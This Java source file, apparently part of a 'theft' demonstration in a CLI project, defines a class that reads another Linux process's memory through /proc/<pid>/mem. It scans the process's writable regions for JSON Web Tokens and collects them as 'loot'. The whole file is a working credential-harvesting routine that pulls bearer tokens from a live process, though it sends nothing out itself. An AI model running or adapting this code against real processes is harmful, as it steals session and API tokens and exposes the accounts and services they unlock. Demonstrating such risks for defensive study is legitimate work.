// SPDX-License-Identifier: Apache-2.0
package io.taskbound.cli.demo.theft;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * The memory of another process, as Linux shows it below /proc to whoever may debug that process: root, and a process
 * of the same user unless kernel.yama.ptrace_scope forbids it.
 */
final class ProcessMemory {
    private static final int PIECE = 1 << 20;
    private static final int LONGEST_JWT = 16 * 1024;
    private static final int HEXADECIMAL = 16;

    private final Path process;

    ProcessMemory(long pid) {
        this.process = Path.of("/proc", Long.toString(pid));
    }

    /** Whether this process may read it. */
    boolean isOpen() {
        try (var memory = memory()) {
            return memory.length() >= 0;
        } catch (IOException denied) {
            return false;
        }
    }

    /** Each JWT in it; empty if this process may not read it. */
    Optional<List<String>> jwts() {
        var found = new ArrayList<String>();
        try (var memory = memory()) {
            for (var line : Files.readAllLines(process.resolve("maps"), StandardCharsets.ISO_8859_1)) {
                // Addresses, permissions, and the rest (proc(5)); the kernel's own pages begin with [v.
                var range = line.split("[ -]", 4);
                if (range[2].startsWith("rw") && !line.contains("[v")) {
                    search(memory, address(range[0]), address(range[1]), found);
                }
            }
        } catch (IOException denied) {
            return Optional.empty();
        }
        return Optional.of(found);
    }

    private RandomAccessFile memory() throws IOException {
        return new RandomAccessFile(process.resolve("mem").toFile(), "r");
    }

    private static long address(String hexadecimal) {
        return Long.parseUnsignedLong(hexadecimal, HEXADECIMAL);
    }

    private static void search(RandomAccessFile memory, long start, long end, List<String> found) {
        var piece = new byte[PIECE + LONGEST_JWT];
        for (long at = start; at < end; at += PIECE) {
            int length = (int) Math.min(piece.length, end - at);
            try {
                memory.seek(at);
                memory.readFully(piece, 0, length);
            } catch (IOException unmapped) {
                return;
            }
            search(piece, length, found);
        }
    }

    private static void search(byte[] piece, int length, List<String> found) {
        for (int i = 0; i + 2 < length; i++) {
            if (piece[i] == 'e' && piece[i + 1] == 'y' && piece[i + 2] == 'J') {
                var text = new String(piece, i, Math.min(LONGEST_JWT, length - i), StandardCharsets.ISO_8859_1);
                var jwt = Loot.JWT.matcher(text);
                if (jwt.lookingAt()) {
                    found.add(jwt.group());
                }
            }
        }
    }
}
